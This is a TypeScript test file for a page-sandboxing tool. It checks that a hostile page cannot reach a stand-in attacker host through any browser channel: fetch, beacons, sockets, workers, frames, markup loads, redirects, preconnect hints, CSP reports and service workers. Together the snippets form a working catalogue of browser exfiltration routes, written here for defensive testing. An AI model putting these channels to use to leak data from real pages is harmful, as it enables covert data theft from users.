import type { Cloud } from '../../cloud/start-cloud.ts';
import { expect, test, type OwnApp } from '../../support/bulkhead.ts';
import { demoTenant } from '../../support/demo-estate.ts';
import {
  ATTACKER,
  isReached,
  namelessConnections,
  openHostile,
  serve,
  serveScript,
} from '../../support/hostile-page.ts';
import { expectRefused } from '../../support/refusals.ts';

// Everything that a page loads, sends or opens without leaving. Each way has a name of its own
// below the attacker's, so that the log of the cloud says which one got through.

let app: OwnApp;

test.beforeAll(async ({ startOwnApp }) => {
  app = await startOwnApp();
});
test.afterAll(() => app.close());

const open = (cloud: Cloud, body = '', headers = {}) =>
  openHostile(
    app.bulkhead,
    demoTenant(cloud, 'Contoso').id,
    serve(cloud, '/taken', body, { headers: { 'content-type': 'text/html', ...headers } }),
  );

const LISTED = 'graph.microsoft.com';

const BY_SCRIPT: Readonly<Record<string, (url: string) => unknown>> = {
  fetch: (url) => void fetch(url, { mode: 'no-cors' }).catch(() => 0),
  keepalive: (url) =>
    void fetch(url, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }).catch(() => 0),
  xhr: (url) => {
    const request = new XMLHttpRequest();
    request.open('GET', url);
    request.send();
  },
  beacon: (url) => navigator.sendBeacon(url, 'x'),
  ping: (url) => {
    const link = Object.assign(document.createElement('a'), { href: '#x', ping: url });
    document.body.append(link);
    link.click();
  },
  socket: (url) => new WebSocket(url.replace('https:', 'wss:')),
  events: (url) => new EventSource(url),
  'dynamic-import': (url) => void import(url).catch(() => 0),
  image: (url) => (new Image().src = url),
  audio: (url) => new Audio(url).load(),
  font: (url) => void new FontFace('any', `url(${url})`).load().catch(() => 0),
  worker: (url) => {
    const source = `importScripts(${JSON.stringify(url)})`;
    return new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
  },
  'worker-fetch': (url) => {
    const source = `fetch(${JSON.stringify(url)}, { mode: 'no-cors' }).catch(() => 0)`;
    return new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
  },
  'blank-frame': (url) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    void frame.contentWindow?.fetch(url, { mode: 'no-cors' }).catch(() => 0);
  },
  'frame-navigates': (url) => {
    const frame = Object.assign(document.createElement('iframe'), { src: '/harmless' });
    frame.addEventListener('load', () => frame.contentWindow?.location.replace(url), {
      once: true,
    });
    document.body.append(frame);
  },
  'frame-form': (url) => {
    const frame = Object.assign(document.createElement('iframe'), { name: 'inner' });
    const form = Object.assign(document.createElement('form'), {
      target: 'inner',
      action: url,
      method: 'post',
    });
    document.body.append(frame, form);
    form.submit();
  },
};

for (const [way, go] of Object.entries(BY_SCRIPT)) {
  test(`asks by ${way} for listed hosts only`, async ({ cloud }) => {
    const host = `${way}.${ATTACKER}`;
    serve(cloud, '/harmless', '');
    const page = await open(cloud);

    // The same code reaches a host that is listed, or its silence below would mean nothing.
    await page.evaluate(go, `https://${LISTED}/${way}`);
    await expect
      .poll(() => cloud.requests.requests({ host: LISTED }).map(({ path }) => path))
      .toContain(`/${way}`);

    await page.evaluate(go, `https://${host}/`);
    await expectRefused(app.bulkhead, 'request', host);
    expect(isReached(cloud, host)).toBe(false);
  });
}

const BY_MARKUP: Readonly<Record<string, (url: string) => string>> = {
  script: (url) => `<script src="${url}"></script>`,
  module: (url) => `<script type=module src="${url}"></script>`,
  stylesheet: (url) => `<link rel=stylesheet href="${url}">`,
  'css-import': (url) => `<style>@import "${url}";</style>`,
  'css-image': (url) => `<div style="background: url(${url}); width: 9px; height: 9px">x</div>`,
  srcset: (url) => `<img srcset="${url} 1x">`,
  poster: (url) => `<video poster="${url}"></video>`,
  video: (url) => `<video preload=auto src="${url}"></video>`,
  object: (url) => `<object data="${url}"></object>`,
  embed: (url) => `<embed src="${url}">`,
  frame: (url) => `<iframe src="${url}"></iframe>`,
  'nested-frame': (url) => `<iframe srcdoc='<iframe src="${url}"></iframe>'></iframe>`,
  'sandboxed-frame': (url) => `<iframe sandbox=allow-scripts src="${url}"></iframe>`,
  'svg-image': (url) => `<svg><image href="${url}" width=9 height=9 /></svg>`,
  preload: (url) => `<link rel=preload as=image href="${url}">`,
  modulepreload: (url) => `<link rel=modulepreload href="${url}">`,
  prefetch: (url) => `<link rel=prefetch href="${url}">`,
};

test('loads and shows nothing from other hosts, whatever the markup', async ({ cloud }) => {
  const ways = Object.entries(BY_MARKUP);
  await open(cloud, ways.map(([way, of]) => of(`https://${way}.${ATTACKER}/x`)).join('\n'));

  for (const [way] of ways) await expectRefused(app.bulkhead, 'request', `${way}.${ATTACKER}`);
  expect(isReached(cloud, ATTACKER)).toBe(false);
});

test('follows no redirect of a request to another host', async ({ cloud }) => {
  const to = (host: string) => ({ status: 307, headers: { location: `https://${host}/?secret` } });
  const hosts = ['fetch', 'frame', 'image'].map((way) => `redirect-${way}.${ATTACKER}`);
  hosts.forEach((host, at) => serve(cloud, `/redirect-${String(at)}`, '', to(host)));
  const page = await open(cloud, '<iframe src=/redirect-1></iframe><img src=/redirect-2>');

  await page.evaluate(() => fetch('/redirect-0', { mode: 'no-cors' }).catch(() => 0));

  for (const host of hosts) await expectRefused(app.bulkhead, 'request', host);
  expect(isReached(cloud, ATTACKER)).toBe(false);
});

test('opens no connection ahead of a request', async ({ cloud }) => {
  const hints = ['preconnect', 'dns-prefetch', 'prerender', 'icon', 'manifest'];
  const address = (rel: string) => `https://${rel}.${ATTACKER}/x`;
  const page = await open(
    cloud,
    hints.map((rel) => `<link rel=${rel} href="${address(rel)}" crossorigin>`).join(''),
    { link: `<https://header.${ATTACKER}>; rel=preconnect` },
  );
  await page.evaluate((url) => {
    const rules = Object.assign(document.createElement('script'), { type: 'speculationrules' });
    rules.textContent = JSON.stringify({
      prefetch: [{ source: 'list', urls: [url.replace('rules', 'ahead')], eagerness: 'immediate' }],
      prerender: [{ source: 'list', urls: [url], eagerness: 'immediate' }],
    });
    document.head.append(rules);
    // The last to be asked for; when it is refused, what came before has been dealt with.
    void fetch(url.replace('rules', 'last'), { mode: 'no-cors' }).catch(() => 0);
  }, address('rules'));

  await expectRefused(app.bulkhead, 'request', `last.${ATTACKER}`);
  await page.waitForLoadState('networkidle');
  expect(isReached(cloud, ATTACKER)).toBe(false);
  expect(namelessConnections(cloud)).toBe(0);
});

test('sends no report of a policy and no last words to another host', async ({ cloud }) => {
  const page = await open(cloud, `<img src=/blocked>`, {
    'content-security-policy': `img-src 'none'; report-uri https://report.${ATTACKER}/`,
  });
  await expectRefused(app.bulkhead, 'request', `report.${ATTACKER}`);

  await page.evaluate((host) => {
    addEventListener('pagehide', () => {
      navigator.sendBeacon(`https://${host}/`, 'last words');
    });
  }, `leaving.${ATTACKER}`);
  await page.goto(serve(cloud, '/after', ''));

  await expectRefused(app.bulkhead, 'request', `leaving.${ATTACKER}`);
  expect(isReached(cloud, ATTACKER)).toBe(false);
});

test('a service worker asks for listed hosts only', async ({ cloud }) => {
  const host = `service-worker.${ATTACKER}`;
  serveScript(
    cloud,
    '/sw.js',
    `onmessage = ({ data }) => fetch(data, { mode: 'no-cors' }).catch(() => 0);`,
  );
  const page = await open(cloud);

  await page.evaluate(
    async (urls) => {
      await navigator.serviceWorker.register('/sw.js');
      const { active } = await navigator.serviceWorker.ready;
      for (const url of urls) active?.postMessage(url, []);
    },
    [`https://${LISTED}/worker`, `https://${host}/`],
  );

  await expectRefused(app.bulkhead, 'request', host);
  await expect.poll(() => isReached(cloud, LISTED)).toBe(true);
  expect(isReached(cloud, ATTACKER)).toBe(false);
});
